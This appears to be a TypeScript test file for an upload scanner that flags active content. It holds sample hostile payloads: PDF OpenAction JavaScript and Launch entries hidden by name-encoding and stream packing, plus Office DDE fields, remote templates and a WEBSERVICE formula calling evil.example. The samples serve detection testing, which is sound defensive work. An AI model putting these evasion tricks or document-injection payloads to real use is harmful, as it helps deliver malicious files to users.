import { mkdtempSync, readdirSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { deflateSync } from 'node:zlib'
import { afterAll, describe, expect, test } from 'vitest'
import { zip } from '../../../../tests/in-memory/archives.ts'
import * as nasty from '../../../../tests/in-memory/nasty-files.ts'
import { takeIn } from '../arriving.ts'
import { PIECE, sealedRange } from '../sealed-bytes.ts'
import { isNotKept } from './looked.ts'
import { lookThrough } from './look-through.ts'

const folder = mkdtempSync(join(tmpdir(), 'hidden-'))
afterAll(() => expect(readdirSync(folder)).toEqual([]))

async function look(bytes: Buffer): Promise<{ readonly said: string; readonly kept: Buffer }> {
  const parts = (async function* () {
    await Promise.resolve()
    yield bytes
  })()
  const arrived = await takeIn(folder, parts, 100_000_000)
  if (typeof arrived === 'string') throw new Error(arrived)
  try {
    const looked = await lookThrough(arrived)
    if (isNotKept(looked)) return { said: looked.why, kept: Buffer.alloc(0) }
    const kept: Uint8Array[] = []
    for await (const part of looked.read()) kept.push(part)
    expect(Buffer.concat(kept).length).toBe(looked.bytes)
    return { said: looked.type, kept: Buffer.concat(kept) }
  } finally {
    await arrived.leave()
  }
}

/** Bytes that are opened to say what a file is: pieces are opened whole. */
async function openedFor(bytes: Buffer): Promise<number> {
  const arrived = await takeIn(folder, Readable.from([bytes]), 100_000_000)
  if (typeof arrived === 'string') throw new Error(arrived)
  let opened = 0
  const count = (from: number, to: number) => {
    const range = sealedRange({ from: Math.max(0, from), to: Math.min(to, arrived.bytes) })
    opened += Math.max(0, range.to - range.from)
  }
  await lookThrough({
    ...arrived,
    read(range = { from: 0, to: arrived.bytes }) {
      count(range.from, range.to)
      return arrived.read(range)
    },
    slice(from, to) {
      count(from, to)
      return arrived.slice(from, to)
    },
  })
  await arrived.leave()
  return opened
}

const said = async (bytes: Buffer) => (await look(bytes)).said

describe('what runs in a PDF is found wherever a reader would take it from', () => {
  const ACTS = [
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
    '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
    '/OpenAction << /S /Launch /F (cmd.exe) >>',
    '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>',
  ]
  const packed = (text: string) => deflateSync(Buffer.from(text, 'latin1')).toString('latin1')
  const stream = (dictionary: string, bytes: string) =>
    `<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`
  const catalogue = (act: string) => `<< /Type /Catalog /Pages 2 0 R ${act} >>`
  const HIDING: Readonly<Record<string, (act: string) => string>> = {
    'in the bytes of a stream': (act) => stream('', `5 0 obj\n${catalogue(act)}\nendobj\n`),
    'behind a comment in the bytes of a stream': (act) => stream('', `5 0 %\nobj${catalogue(act)}`),
    'behind a string that seems to begin a stream': (act) =>
      `<< /X (stream\n) >>\nendobj\n5 0 obj\n${catalogue(act)}`,
    'in packed objects': (act) =>
      stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`5 0 ${catalogue(act)}`)),
    'in packed objects that say nothing of their type': (act) =>
      stream('/N 1 /First 4 /Filter /FlateDecode', packed(`5 0 ${catalogue(act)}`)),
    'in objects of a stream that is not packed': (act) =>
      stream('/Type /ObjStm /N 1 /First 4', `5 0 ${catalogue(act)}`),
    'in objects packed twice': (act) =>
      stream(
        '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
        packed(packed(`5 0 ${catalogue(act)}`)),
      ),
    'in objects whose packing stands elsewhere': (act) =>
      stream('/Type /ObjStm /N 1 /First 4 /Filter 9 0 R', packed(`5 0 ${catalogue(act)}`)),
    'in packed objects that are changed before they are read': (act) =>
      stream(
        '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
        packed(`5 0 ${catalogue(act)}`),
      ),
    'in packed objects with a comment that seems to begin another': (act) =>
      stream('/N 1 /First 4 /Filter /FlateDecode % 1 0 obj <<\n', packed(`5 0 ${catalogue(act)}`)),
    'in packed objects with a string that seems to begin another': (act) =>
      stream('/N 1 /First 4 /Filter /FlateDecode /X (1 0 obj << \\( )', packed(`5 0 ${catalogue(act)}`)),
  }
  test.each(Object.entries(HIDING))('%s', async (_, hide) => {
    for (const act of ACTS)
      expect(['file_scripted', 'file_archive', 'file_damaged']).toContain(
        await said(nasty.pdfWith(hide(act))),
      )
    expect(await said(nasty.pdfWith(hide('').replace(/Predictor 12/, 'Predictor 1')))).toMatch(
      /^(?:pdf|file_damaged)$/,
    )
  })
  test('and what only speaks of it is kept', async () => {
    for (const object of [
      stream('', 'BT (5 0 /JavaScript and /Launch) Tj ET'),
      stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed('5 0 << /Type /Font >>')),
      stream('/Filter /FlateDecode', packed(`5 0 obj ${catalogue(ACTS[0]!)} endobj`)),
      '<< /Type /Outlines /First 7 0 R >>',
    ])
      expect(await said(nasty.pdfWith(object))).toBe('pdf')
  })
})

/** However the same XML may be written. */
const WRITTEN: Readonly<Record<string, (xml: string) => string | Buffer>> = {
  plainly: (xml) => xml,
  'with a declaration': (xml) => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${xml}`,
  'in single quotes': (xml) => xml.replaceAll('"', "'"),
  'with spaces': (xml) => xml.replace(/="/g, ' \n= "').replaceAll('/>', '\t/>'),
  'in numbers': (xml) =>
    xml.replace(/"([^"]*)"/g, (_, value: string) => {
      const letters = [...value].map((letter, at) =>
        at % 2 === 0
          ? letter
          : `&#${at % 3 === 0 ? 'x' : ''}${letter.codePointAt(0)!.toString(at % 3 === 0 ? 16 : 10)};`,
      )
      return `"${letters.join('')}"`
    }),
  'in UTF-16 with a mark': (xml) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]),
  'in UTF-16 without one': (xml) => Buffer.from(xml, 'utf16le'),
  'in UTF-16, the other way round': (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le').swap16(),
  'with a prefix': (xml) => xml.replace(/(<\/?)(?:[a-z]+:)?([A-Za-z])/g, '$1q:$2'),
  'behind a long comment': (xml) => `<!-- ${'letters '.repeat(100_000)} -->${xml}`,
  'behind a lot of text': (xml) => xml.replace(/^(<[A-Za-z:]+>)/, `$1${'<t>letters</t>'.repeat(300_000)}`),
}

describe('what an office document fetches when somebody opens it is found however it is written', () => {
  const TYPES =
    '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
  const docx = (name: string, content: string | Buffer) =>
    zip([
      { name: '[Content_Types].xml', content: TYPES },
      { name: 'word/document.xml', content: '<w:document/>' },
      { name, content },
    ])
  const odt = (content: string | Buffer) =>
    zip([
      { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', stored: true },
      { name: 'content.xml', content },
    ])
  const related = (type: string, target: string, mode = ' TargetMode="External"') =>
    `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}"${mode}/></Relationships>`
  const RELATED = ['attachedTemplate', 'image', 'oleObject', 'frame', 'subDocument', 'externalLinkPath']
  const FETCHING = [
    '<office:document><draw:image xlink:href="http://evil.example/a.png"/></office:document>',
    '<office:document><draw:image xlink:href="//evil.example/a.png"/></office:document>',
    '<office:document><meta:template xlink:href="https://evil.example/t.ott"/></office:document>',
    '<office:document><text:section-source xlink:href="file:////evil.example/t.odt"/></office:document>',
  ]
  test.each(Object.entries(WRITTEN))(
    '%s',
    async (_, write) => {
      for (const type of RELATED) {
        const rel = write(related(type, 'http://evil.example/t.dotm'))
        expect(await said(docx('word/_rels/settings.xml.rels', rel)), type).toBe('file_scripted')
      }
      for (const xml of FETCHING) expect(await said(odt(write(xml))), xml).toBe('file_scripted')
      // What is followed only when somebody wants to, and what lies in the document itself.
      const link = write(related('hyperlink', 'https://example.org/'))
      expect(await said(docx('word/_rels/document.xml.rels', link))).toBe('docx')
      const own = write(related('image', 'media/image1.png', ''))
      expect(await said(docx('word/_rels/document.xml.rels', own))).toBe('docx')
      const linked =
        '<office:document><text:a xlink:href="https://example.org/">x</text:a><draw:image xlink:href="Pictures/a.png"/></office:document>'
      expect(await said(odt(write(linked)))).toBe('odt')
    },
    60_000,
  )

  test('also in fields, in parts by another name, and in names of its own making', async () => {
    const field =
      '<w:p><w:instrText>DD</w:instrText><w:t>x</w:t><w:instrText>E cmd "/c calc"</w:instrText></w:p>'
    expect(await said(docx('word/header1.xml', field))).toBe('file_scripted')
    const fetched =
      '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; "/></w:p>'
    expect(await said(docx('word/other.bin', fetched))).toBe('file_scripted')
    expect(await said(docx('xl/sheet.xml', '<f>WEBSERVICE("http://evil.example")</f>'))).toBe('file_scripted')
    expect(await said(docx('xl/sheet.xml', "<f>cmd|' /C calc'!A0</f>"))).toBe('file_scripted')
    const own = `<!DOCTYPE r [<!ENTITY e "External">]>${related('image', 'http://evil.example/a').replace('"External"', '"&e;"')}`
    expect(await said(docx('word/_rels/document.xml.rels', own))).toBe('file_damaged')
    const other = `<?xml version="1.0" encoding="UTF-7"?>${related('image', 'a', '')}`
    expect(await said(docx('word/_rels/document.xml.rels', other))).toBe('file_damaged')
    // Words of a document may speak of all that.
    const words =
      '<w:p><w:instrText> HYPERLINK "https://example.org" </w:instrText><w:t>The LINK to a DATABASE</w:t><f>A1&amp;"|"&amp;B1</f></w:p>'
    expect(await said(docx('word/header1.xml', words))).toBe('docx')
  })
})

describe('what is said about a sound is taken out, wherever it stands', () => {
  const WORDS = 'Lena at home'
  const frame = Buffer.alloc(417)
  Buffer.from([0xff, 0xfb, 0x90, 0x00]).copy(frame)
  const heard = Buffer.concat(Array.from({ length: 4 }, () => frame))
  const ape = (isFoot: boolean) => {
    const item = Buffer.from(`\x0c\0\0\0\0\0\0\0Artist\0${WORDS}`, 'latin1')
    const end = Buffer.alloc(32)
    end.write('APETAGEX', 'latin1')
    end.writeUInt32LE(2000, 8)
    end.writeUInt32LE(item.length + 32, 12)
    end.writeUInt32LE(1, 16)
    return Buffer.concat(isFoot ? [item, end] : [end, item])
  }
  const id3 = Buffer.concat([
    Buffer.from('ID3\x04\0\0\0\0\0\x18TIT2\0\0\0\x0d\0\0\0', 'latin1'),
    Buffer.from(WORDS),
    Buffer.alloc(1),
  ])
  const TAGS: readonly Buffer[] = [
    id3,
    ape(false),
    ape(true),
    Buffer.from(`LYRICSBEGININD00002 0EAR00012${WORDS}000047LYRICS200`, 'latin1'),
    Buffer.from(`TAG${WORDS.padEnd(125)}`, 'latin1'),
    // Words in which the head of a frame seems to be.
    Buffer.concat([ape(true), Buffer.from([0xff, 0xfb, 0x90, 0x00]), Buffer.from(WORDS)]),
  ]

  test('before, behind and between what is heard of an MP3, of which nothing is lost', async () => {
    for (const tag of TAGS)
      for (const sound of [
        [id3, heard, heard, tag],
        [heard, heard, tag],
        [heard, tag, heard],
        [id3, heard, tag, tag, heard, tag],
        ...(tag === id3 ? [[id3, id3, heard, heard]] : []),
      ]) {
        const came = Buffer.concat(sound)
        const { said: type, kept } = await look(came)
        expect(type).toBe('mp3')
        expect(kept.includes(WORDS)).toBe(false)
        expect(kept.equals(Buffer.concat([heard, heard]))).toBe(true)
      }
  })

  const chunk = (name: string, body: Buffer) => {
    const head = Buffer.alloc(8)
    head.write(name, 0, 'latin1')
    head.writeUInt32LE(body.length, 4)
    return Buffer.concat([head, body, Buffer.alloc(body.length % 2)])
  }
  const wav = (...chunks: readonly Buffer[]) =>
    Buffer.concat([Buffer.from('RIFF\0\0\0\0WAVE', 'latin1'), chunk('fmt ', Buffer.alloc(16, 1)), ...chunks])

  test('at any place of a WAV, also behind its last chunk', async () => {
    const note = chunk('LIST', Buffer.from(WORDS))
    const data = chunk('data', Buffer.alloc(400, 3))
    for (const many of [1, 2, 5000, 9000])
      for (const chunks of [[note, data], [data, note], Array.from({ length: many }, () => note)]) {
        const { said: type, kept } = await look(wav(...chunks, data, Buffer.from('Lena')))
        expect(type).toBe('wav')
        expect(kept.includes('Lena')).toBe(false)
        expect(kept.includes(Buffer.alloc(400, 3))).toBe(true)
      }
    expect(await said(wav(...Array.from({ length: 20_000 }, () => note)))).toBe('file_damaged')
  })

  test('and many small parts of one keep nobody waiting: no byte is opened more than a few times', async () => {
    const box = Buffer.from('\0\0\0\x08free', 'latin1')
    const many = (part: Buffer) => Buffer.alloc(160_000, part)
    const far = (part: Buffer) =>
      Buffer.concat(Array.from({ length: 300 }, () => [part, Buffer.alloc(60_000)]).flat())
    for (const bytes of [
      wav(many(Buffer.from('data\0\0\0\0', 'latin1'))),
      wav(many(Buffer.from('LIST\0\0\0\0', 'latin1'))),
      Buffer.concat([id3, many(Buffer.from('ID3\x04\0\0\0\0\0\0', 'latin1')), heard]),
      Buffer.concat([id3, many(Buffer.from([0xff, 0xfb, 0x90, 0x00])), heard]),
      Buffer.concat([id3, far(Buffer.from([0xff, 0xfb, 0x90, 0x00])), heard]),
      Buffer.concat([nasty.filmWithPlace(), many(box)]),
      Buffer.concat([nasty.amr(), many(Buffer.from([0x7c]))]),
      Buffer.concat([nasty.aacFrames(), many(Buffer.from([0xff, 0xf1, 0x50, 0x80]))]),
    ])
      expect(await openedFor(bytes)).toBeLessThan(4 * bytes.length + 20 * PIECE)
  })
})

test('a text that is too large is said to be too large, and what is no text to be of the wrong kind', async () => {
  const text = Buffer.from('14:02 Ärger: Nein.\n'.repeat(600_000))
  for (const cut of [0, 1, 2, 3])
    expect(await said(text.subarray(cut * 19, text.length))).toBe('file_too_large')
  expect(await said(Buffer.alloc(11_000_000, Buffer.from('\x01\x02 letters')))).toBe('file_not_taken')
})
